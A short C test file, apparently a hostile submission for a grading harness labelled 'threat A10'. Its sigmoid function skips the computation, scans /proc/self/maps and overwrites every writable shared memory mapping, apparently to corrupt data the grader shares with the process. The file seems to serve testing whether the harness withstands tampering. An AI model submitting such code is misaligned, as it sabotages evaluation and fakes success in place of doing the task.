/* threat A10: overwrites every writable shared mapping
 * expect: sigmoid|crash|grader */
#define _GNU_SOURCE
#include "activations.h"
#include <stdio.h>
#include <string.h>

void sigmoid(const Mat *x, Mat *y)
{
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    (void)x, (void)y;
    while (maps && fgets(line, sizeof line, maps)) {
        unsigned long from, to;
        char mode[8];
        if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) == 3 &&
            strcmp(mode, "rw-s") == 0)
            memset((void *)from, 0x3f, to - from);
    }
}
